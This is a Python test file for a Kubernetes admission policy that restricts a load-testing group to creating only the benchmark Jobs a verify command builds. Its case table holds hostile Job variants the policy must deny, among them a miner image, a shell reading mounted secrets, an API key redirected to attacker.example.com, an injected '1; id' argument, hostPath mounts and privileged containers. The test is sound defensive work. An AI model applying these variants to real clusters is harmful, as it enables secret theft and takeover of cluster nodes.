"""The admission policy that holds Group llm-eks-load to the load Jobs `llm-eks verify --load` builds, evaluated with
a CEL implementation (tests/admission.py) as the API server evaluates it: the Job verify creates is admitted in every
environment, and every Job a member of the group could write instead is refused with the policy's message.

`pytest -v tests/test_load_policy.py` prints the table of cases."""

from __future__ import annotations

import copy
from collections.abc import Callable
from typing import Any

import pytest

from llm_eks.config import EnvironmentConfig, parse_environment
from llm_eks.config.plans import plan_workloads
from llm_eks.images.lock import ImageLock, LockEntry
from llm_eks.infra.workloads import VllmWorkload, build_workloads
from llm_eks.manifests.benchmark import LOAD_ARGS, load_template
from llm_eks.manifests.verifier import LOAD_GROUP, load_policy
from llm_eks.verify.checks_load import LoadSpec
from llm_eks.verify.derive import load_specs
from tests.admission import denials, matches
from tests.conftest import CDK_JSON
from tests.kube_schema import assert_valid
from tests.verify_cluster import rendered_objects

LOADER = {"username": "ci-verify", "groups": ["llm-eks-verify", LOAD_GROUP, "system:authenticated"]}
ADMIN = {"username": "alice", "groups": ["platform-admins", "system:authenticated"]}


def _config(env: str) -> EnvironmentConfig:
    return parse_environment(env, CDK_JSON["context"]["environments"][env])


def _policies(objects: list[dict[str, Any]]) -> dict[str, dict[str, Any]]:
    """The load policies by the namespace they hold."""
    found = [
        o
        for o in objects
        if o["kind"] == "ValidatingAdmissionPolicy" and o["metadata"]["name"].startswith("llm-eks-load-")
    ]
    return {
        p["spec"]["matchConstraints"]["namespaceSelector"]["matchLabels"]["kubernetes.io/metadata.name"]: p
        for p in found
    }


def _specs(config: EnvironmentConfig, objects: list[dict[str, Any]], images: ImageLock | None = None) -> list[LoadSpec]:
    """verify --load's Jobs with every vLLM workload Ready at two replicas."""
    ready = {o["metadata"]["name"]: 2 for o in objects if o["kind"] in ("Deployment", "LeaderWorkerSet")}
    return load_specs(config, plan_workloads(config), ready, images=images)


def _denied(policy: dict[str, Any], job: dict[str, Any], user: dict[str, Any] = LOADER) -> list[str]:
    """What the API server answers `user` creating `job`: the messages of the failed validations, none when the
    policy does not match the request."""
    request = {"userInfo": user, "operation": "CREATE"}
    if not matches(policy, job, kind="Job", request=request):
        return []
    return denials(policy, job, kind="Job", request=request)


@pytest.fixture(scope="module")
def dev() -> tuple[dict[str, Any], LoadSpec]:
    """dev's load policy and the Job verify --load creates there."""
    config = _config("dev")
    objects = rendered_objects(config)
    (spec,) = _specs(config, objects)
    return _policies(objects)[spec.namespace], spec


@pytest.mark.parametrize("env", ["dev", "staging", "prod"])
def test_the_job_verify_load_creates_is_admitted_and_the_policy_is_valid(env: str) -> None:
    config = _config(env)
    objects = rendered_objects(config)
    policies = _policies(objects)
    specs = _specs(config, objects)
    assert specs and set(policies) == {s.namespace for s in specs}
    bindings = [o for o in objects if o["kind"] == "ValidatingAdmissionPolicyBinding" and o["metadata"]["name"] in
                {p["metadata"]["name"] for p in policies.values()}]  # fmt: skip
    assert [b["spec"] for b in bindings] == [
        {"policyName": p["metadata"]["name"], "validationActions": ["Deny"]} for p in policies.values()
    ]
    assert_valid([*policies.values(), *bindings])
    for spec in specs:
        policy = policies[spec.namespace]
        assert policy["spec"]["failurePolicy"] == "Fail"
        assert policy["spec"]["matchConstraints"]["resourceRules"] == [
            {"apiGroups": ["batch"], "apiVersions": ["v1"], "resources": ["jobs"], "operations": ["CREATE", "UPDATE"]}
        ]
        assert matches(policy, spec.job, kind="Job", request={"userInfo": LOADER})
        assert denials(policy, spec.job, kind="Job", request={"userInfo": LOADER}) == []


def _edit(change: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], dict[str, Any]]:
    def edited(job: dict[str, Any]) -> dict[str, Any]:
        job = copy.deepcopy(job)
        change(job)
        return job

    return edited


def _pod(job: dict[str, Any]) -> dict[str, Any]:
    return job["spec"]["template"]["spec"]  # type: ignore[no-any-return]


def _bench(job: dict[str, Any]) -> dict[str, Any]:
    return _pod(job)["containers"][0]  # type: ignore[no-any-return]


def _set_arg(flag: str, value: str) -> Callable[[dict[str, Any]], None]:
    def change(job: dict[str, Any]) -> None:
        args = _bench(job)["args"]
        args[args.index(flag) + 1] = value

    return change


def _another_load(job: dict[str, Any]) -> None:
    for flag in LOAD_ARGS:
        _set_arg(flag, "37")(job)
    _set_arg("--request-rate", "1.25e+03")(job)


SECRET_VOLUME = {"name": "stolen", "secret": {"secretName": "hf-token"}}
HOST_PATH = {"name": "host", "hostPath": {"path": "/"}}
# (case, how the Job differs from verify's, a part of the message; None: admitted)
CASES: list[tuple[str, Callable[[dict[str, Any]], dict[str, Any]], str | None]] = [
    ("verify's own Job", _edit(lambda j: None), None),
    ("another load (rate, count, concurrency, lengths)", _edit(_another_load), None),
    ("another name", _edit(lambda j: j["metadata"].update(name="miner")), "may create only the load Jobs"),
    ("another image", _edit(lambda j: _bench(j).update(image="docker.io/attacker/miner:latest")), "must run image"),
    (
        "another image in the init container",
        _edit(lambda j: _pod(j)["initContainers"][0].update(image="docker.io/attacker/miner:latest")),
        "must run image",
    ),
    (
        "the serving ServiceAccount",
        _edit(lambda j: _pod(j).update(serviceAccountName="vllm-llama-3-1-8b-instruct")),
        "must run as ServiceAccount bench-llama-3-1-8b-instruct",
    ),
    (
        "a mounted token",
        _edit(lambda j: _pod(j).update(automountServiceAccountToken=True)),
        "automountServiceAccountToken",
    ),
    (
        "a secret volume",
        _edit(lambda j: _pod(j)["volumes"].append(SECRET_VOLUME)),
        "may mount only its own volumes",
    ),
    (
        "the work volume swapped for a secret",
        _edit(lambda j: _pod(j).update(volumes=[{**SECRET_VOLUME, "name": "work"}])),
        "may mount only its own volumes",
    ),
    ("a hostPath volume", _edit(lambda j: _pod(j)["volumes"].append(HOST_PATH)), "may not mount a hostPath volume"),
    ("the node's network", _edit(lambda j: _pod(j).update(hostNetwork=True)), "network, PID or IPC"),
    (
        "a privileged container",
        _edit(lambda j: _bench(j)["securityContext"].update(privileged=True)),
        "containers run unprivileged",
    ),
    (
        "an added capability",
        _edit(lambda j: _bench(j)["securityContext"].update(capabilities={"add": ["SYS_ADMIN"]})),
        "containers run unprivileged",
    ),
    (
        "a shell of its own",
        _edit(lambda j: _bench(j).update(command=["/bin/sh", "-c", "cat /var/run/secrets/*"])),
        "must run the benchmark's command",
    ),
    (
        "the API key sent elsewhere",
        _edit(_set_arg("--base-url", "https://attacker.example.com")),
        "must run the benchmark's command",
    ),
    ("a word where a number goes", _edit(_set_arg("--num-prompts", "1; id")), "must run the benchmark's command"),
    ("an extra flag", _edit(lambda j: _bench(j)["args"].append("--trust-remote-code")), "benchmark's command"),
    (
        "the Hub redirected",
        _edit(lambda j: _bench(j)["env"].append({"name": "HF_ENDPOINT", "value": "https://attacker.example.com"})),
        "benchmark's command, environment",
    ),
    (
        "env from a Secret",
        _edit(lambda j: _bench(j).update(envFrom=[{"secretRef": {"name": "hf-token"}}])),
        "benchmark's command, environment",
    ),
    (
        "a sidecar",
        _edit(lambda j: _pod(j)["containers"].append({**_bench(j), "name": "sidecar"})),
        "must run image",
    ),
    (
        "a GPU",
        _edit(lambda j: _bench(j)["resources"]["limits"].update({"nvidia.com/gpu": "1"})),
        "no GPU or other device",
    ),
    ("root", _edit(lambda j: _pod(j)["securityContext"].update(runAsUser=0)), "pod security context"),
    (
        "the serving pods' labels",
        _edit(lambda j: j["spec"]["template"]["metadata"]["labels"].update({"app.kubernetes.io/name": "vllm"})),
        "labels",
    ),
]


@pytest.mark.parametrize(("case", "edit", "message"), CASES, ids=[c[0] for c in CASES])
def test_a_load_group_member_writes_only_verifys_job(
    dev: tuple[dict[str, Any], LoadSpec],
    case: str,
    edit: Callable[[dict[str, Any]], dict[str, Any]],
    message: str | None,
) -> None:
    policy, spec = dev
    denied = _denied(policy, edit(spec.job))
    if message is None:
        assert denied == [], case
    else:
        assert denied and all("load Job" in m or LOAD_GROUP in m for m in denied), (case, denied)
        assert any(message in m for m in denied), (case, denied)


def test_the_job_controllers_labels_are_allowed(dev: tuple[dict[str, Any], LoadSpec]) -> None:
    policy, spec = dev
    job = copy.deepcopy(spec.job)
    labels = job["spec"]["template"]["metadata"]["labels"]
    labels.update({"batch.kubernetes.io/controller-uid": "0b1c", "controller-uid": "0b1c", "job-name": spec.job_name})
    assert _denied(policy, job) == []


def test_a_user_outside_the_group_is_not_held_by_it(dev: tuple[dict[str, Any], LoadSpec]) -> None:
    policy, spec = dev
    miner = _edit(lambda j: _bench(j).update(image="docker.io/attacker/miner:latest"))(spec.job)
    assert _denied(policy, miner, ADMIN) == []
    assert not matches(policy, miner, kind="Job", request={"userInfo": {"username": "system:anonymous"}})
    assert _denied(policy, miner) != []


def test_the_image_is_pinned_by_digest_when_the_lock_has_it() -> None:
    config = _config("dev")
    plans = plan_workloads(config)
    (workload,) = build_workloads(config, plans)
    assert isinstance(workload, VllmWorkload)
    digest = "sha256:" + "a" * 64
    lock = ImageLock("images.lock.json", {workload.vllm.image: LockEntry(digest, "2026-11-30T14:00:00Z", "https://x")})
    (locked,) = build_workloads(config, plans, images=lock)
    assert isinstance(locked, VllmWorkload) and locked.vllm.image.endswith("@" + digest)
    policy, _ = load_policy(
        locked.vllm.namespace, [load_template(locked.vllm, locked.benchmark)], LOAD_ARGS, LOAD_GROUP
    )
    (spec,) = load_specs(config, plans, {locked.vllm.name: 1}, images=lock)
    assert _denied(policy, spec.job) == []
    (unlocked,) = load_specs(config, plans, {locked.vllm.name: 1})
    assert any("must run image" in m and digest in m for m in _denied(policy, unlocked.job))


def test_a_namespace_with_two_load_jobs_keeps_each_to_its_own(dev: tuple[dict[str, Any], LoadSpec]) -> None:
    _, spec = dev
    other = copy.deepcopy(spec.job)
    other["metadata"]["name"] = "bench-next-load"
    _pod(other)["serviceAccountName"] = "bench-next"
    policy, _ = load_policy(spec.namespace, [spec.job, other], LOAD_ARGS, LOAD_GROUP)
    assert _denied(policy, spec.job) == [] and _denied(policy, other) == []
    swapped = copy.deepcopy(other)
    _pod(swapped)["serviceAccountName"] = _pod(spec.job)["serviceAccountName"]
    assert _denied(policy, swapped) == ["load Job bench-next-load must run as ServiceAccount bench-next"]
